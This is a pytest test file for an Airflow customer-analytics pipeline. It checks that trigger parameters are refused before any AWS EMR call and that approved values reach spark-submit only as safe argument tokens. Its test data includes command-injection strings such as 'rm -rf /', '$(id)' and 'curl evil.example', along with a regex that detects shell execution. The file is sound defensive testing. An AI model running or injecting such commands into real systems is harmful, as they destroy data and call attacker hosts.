"""Run parameters (Params / dag_run.conf): hostile or wrong values are refused before any AWS call,
and the values that pass reach EMR and the local runner only as argument lists of safe tokens."""

from __future__ import annotations

import copy
import re

import pytest
from airflow.sdk.definitions.param import ParamValidationError

from include import pipeline as P
from include.lineage import spark_properties
from include.params import backfill_params, nightly_params
from include.planning import plan_backfill, plan_nightly
from include.run_plan import BACKFILL_TASK_ID, RunPlan
from include.settings import load_settings
from spark_jobs.cli import parse_args
from tests.harness.aws_fakes import job_args
from tests.harness.settings import EMR_ENV

EMR = load_settings(EMR_ENV)
LOCAL = load_settings({"PIPELINE_LAKE": "/tmp/lake"})
CODE = {
    "version": "0.1.0-abc",
    "py_files": "s3://lake-bucket/lake/_code/0.1.0-abc/spark_jobs-0.1.0-abc.zip",
    "entrypoint": "s3://lake-bucket/lake/_code/0.1.0-abc/spark_jobs_main.py",
}
DS = "2024-06-30"

# Each is something a person or a script could type into the trigger form or the REST API.
BAD_DATES = [
    "2024-06-30; rm -rf /",
    "$(id)",
    "`id`",
    "2024-06-30 && curl evil.example",
    "2024-06-30\n",
    "2024-06-30\nrm -rf /",
    " 2024-06-30",
    "\uff12\uff10\uff12\uff14-\uff10\uff16-\uff13\uff10",  # fullwidth digits
    "\u0662\u0660\u0662\u0664-\u0660\u0666-\u0663\u0660",  # Arabic-Indic digits
    "2024-02-30",
    "2023-02-29",
    "2024-13-01",
    "2024-6-30",
    "20240630",
    "2024-06-30T00:00:00Z",
    "",
    "2" * 100_000,
    None,
    20240630,
    ["2024-06-30"],
]
BAD_PROFILES = ["dev; rm -rf /", "DEV", "prod\n", "../prod", "", None, "x" * 10_000]
UNHASHABLE_PROFILES = [{"name": "dev"}, ["dev"]]
BAD_OUTPUTS = [
    ["stock_daily; rm -rf /"],
    ["$(id)"],
    "stock_daily",  # a string, not a list
    [],
    ["stock_daily", "stock_daily"],
    [None],
    None,
    ["Stock_Daily"],
]


def _nightly(settings=EMR, ds=DS, run_id="scheduled__2024-06-30T02:00:00+00:00", **params):
    params = {"cluster_profile": "dev", "outputs": list(P.OUTPUTS), "ingest_start_ds": None, **params}
    code = CODE if settings.is_emr else None
    return plan_nightly(
        settings, dag_id="customer_analytics_nightly", run_id=run_id, ds=ds, params=params, code=code
    )


def _backfill(settings=EMR, run_id="manual__2024-07-01T10:00:00+00:00", **params):
    params = {"start_ds": "2024-06-29", "end_ds": DS, "cluster_profile": "dev", **params}
    code = CODE if settings.is_emr else None
    return plan_backfill(
        settings, dag_id="customer_analytics_backfill", run_id=run_id, params=params, code=code
    )


# ---- refused by the plan task (the second line of defence, after the Param schema) ----------
@pytest.mark.parametrize("bad", BAD_DATES, ids=repr)
@pytest.mark.parametrize("field", ["start_ds", "end_ds"])
def test_a_backfill_date_that_is_not_a_real_yyyy_mm_dd_date_is_refused(field, bad):
    with pytest.raises(P.RunParamError, match=field):
        _backfill(**{field: bad})


@pytest.mark.parametrize("bad", BAD_DATES, ids=repr)
def test_a_nightly_history_start_that_is_not_a_real_date_is_refused(bad):
    if bad is None:
        pytest.skip("None means: no history, ingest the run's date only")
    with pytest.raises(P.RunParamError, match="ingest_start_ds"):
        _nightly(ingest_start_ds=bad)


@pytest.mark.parametrize("bad", [b for b in BAD_DATES if b is not None], ids=repr)
def test_a_logical_date_that_is_not_a_real_date_is_refused(bad):
    with pytest.raises(P.RunParamError, match="logical date"):
        _nightly(ds=bad)


@pytest.mark.parametrize("bad", [*BAD_PROFILES, *UNHASHABLE_PROFILES], ids=repr)
def test_a_cluster_profile_outside_the_fixed_list_is_refused(bad):
    with pytest.raises(P.RunParamError, match="cluster_profile"):
        _nightly(cluster_profile=bad)
    with pytest.raises(P.RunParamError, match="cluster_profile"):
        _backfill(cluster_profile=bad)


@pytest.mark.parametrize("bad", BAD_OUTPUTS, ids=repr)
def test_outputs_outside_the_fixed_list_are_refused(bad):
    with pytest.raises(P.RunParamError, match="outputs"):
        _nightly(outputs=bad)


@pytest.mark.parametrize(
    ("start", "end", "why"),
    [
        ("2024-07-01", "2024-06-30", "after end"),
        ("2024-03-01", "2024-06-02", "94 days"),  # one more than MAX_BACKFILL_DAYS
    ],
)
def test_a_backfill_range_that_is_reversed_or_too_long_is_refused(start, end, why):
    with pytest.raises(P.RunParamError, match=why):
        _backfill(start_ds=start, end_ds=end)


@pytest.mark.parametrize(("start", "why"), [("2024-07-01", "after end"), ("2023-06-30", "367 days")])
def test_a_history_start_after_the_run_date_or_too_far_back_is_refused(start, why):
    with pytest.raises(P.RunParamError, match=why):
        _nightly(ingest_start_ds=start)


@pytest.mark.parametrize(("start", "end"), [("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31")])
def test_a_backfill_outside_the_pipelines_dates_is_refused(start, end):
    with pytest.raises(P.RunParamError):
        _backfill(start_ds=start, end_ds=end)


# ---- refused by the Param schema (the trigger form and the REST API) -------------------------
@pytest.mark.parametrize("bad", [b for b in BAD_DATES if b is not None], ids=repr)
def test_the_param_schema_refuses_bad_dates_at_trigger_time(bad):
    for param in (backfill_params(EMR)["start_ds"], backfill_params(EMR)["end_ds"]):
        with pytest.raises(ParamValidationError):
            copy.deepcopy(param).resolve(bad)
    with pytest.raises(ParamValidationError):
        copy.deepcopy(nightly_params(EMR)["ingest_start_ds"]).resolve(bad)


@pytest.mark.parametrize("bad", [*BAD_PROFILES, *UNHASHABLE_PROFILES], ids=repr)
def test_the_param_schema_refuses_profiles_outside_the_list(bad):
    with pytest.raises(ParamValidationError):
        copy.deepcopy(nightly_params(EMR)["cluster_profile"]).resolve(bad)


@pytest.mark.parametrize("bad", BAD_OUTPUTS, ids=repr)
def test_the_param_schema_refuses_outputs_outside_the_list(bad):
    with pytest.raises(ParamValidationError):
        copy.deepcopy(nightly_params(EMR)["outputs"]).resolve(bad)


# ---- what passes reaches EMR as argument lists of safe tokens --------------------------------
SAFE_TOKEN = re.compile(r"^[A-Za-z0-9_.:/=+@-]+$")  # no space, quote, ; | & $ ` ( ) < > or newline
HOSTILE_RUN_ID = "manual__2024-07-01; rm -rf / $(id) `id`\n|curl evil.example"


def _emr_steps(plan: RunPlan) -> list[dict]:
    """Every EMR step the run's tasks render from its plan (as the targets do, lineage on)."""
    conf = spark_properties(EMR)
    if {p.task_id for p in plan.steps} == {BACKFILL_TASK_ID}:
        return [step for batch in plan.emr_batches(conf) for step in batch]
    return [step for p in plan.steps for step in plan.emr_steps(p.step, conf)]


@pytest.mark.parametrize("kind", ["nightly", "backfill"])
def test_emr_steps_are_spark_submit_argument_lists_of_safe_tokens_never_a_shell(kind):
    if kind == "nightly":
        plan = _nightly(run_id=HOSTILE_RUN_ID, ingest_start_ds="2024-06-01")
    else:
        plan = _backfill(run_id=HOSTILE_RUN_ID)
    steps = _emr_steps(plan)
    assert len(steps) >= len(P.PIPELINE)
    for step in steps:
        jar = step["HadoopJarStep"]
        assert jar["Jar"] == "command-runner.jar"
        args = jar["Args"]
        assert isinstance(args, list)
        assert all(isinstance(a, str) for a in args)
        assert args[0] == "spark-submit"  # not bash/sh: command-runner execs it directly
        assert not {"bash", "sh", "-c", "/bin/sh", "/bin/bash"} & set(args)
        assert [a for a in args if not SAFE_TOKEN.match(a)] == []
        # the job's own parser reads back exactly the planned dates and lake
        parsed = parse_args(job_args(args))  # what follows spark-submit's options and entrypoint
        assert parsed.lake == EMR.lake
        # the hostile run id only shows up sanitised, in the step's name
        assert "rm -rf" not in " ".join(args)
        assert SAFE_TOKEN.match(step["Name"].replace("|", "")), step["Name"]
    tags = plan.cluster["Tags"]
    run_tag = next(t["Value"] for t in tags if t["Key"] == "run_id")
    assert SAFE_TOKEN.match(run_tag), run_tag


@pytest.mark.parametrize("kind", ["nightly", "backfill"])
def test_local_commands_are_argument_lists_of_safe_tokens(kind):
    plan = _nightly(LOCAL, ingest_start_ds="2024-06-01") if kind == "nightly" else _backfill(LOCAL)
    commands = plan.commands()  # every selected step's, in the order they run
    assert commands
    for args in commands:
        assert isinstance(args, list)
        assert [a for a in args if not (isinstance(a, str) and SAFE_TOKEN.match(a))] == []
        parse_args(args)


def test_no_code_runs_a_shell_or_builds_a_command_string():
    """Every subprocess in the project gets a list; no shell=True, os.system, `bash -c` or Popen(str)."""
    from include.settings import PROJECT_ROOT

    pattern = re.compile(
        r"shell\s*=\s*True|os\.system\(|os\.popen\(|[\"']bash[\"']\s*,\s*[\"']-c[\"']|bash -c"
    )
    offenders = []
    for folder in ("dags", "include", "deployment", "plugins", "spark_jobs"):
        for path in sorted((PROJECT_ROOT / folder).rglob("*.py")):
            for number, line in enumerate(path.read_text().splitlines(), 1):
                if pattern.search(line):
                    offenders.append(f"{path.relative_to(PROJECT_ROOT)}:{number}: {line.strip()}")
    assert offenders == []
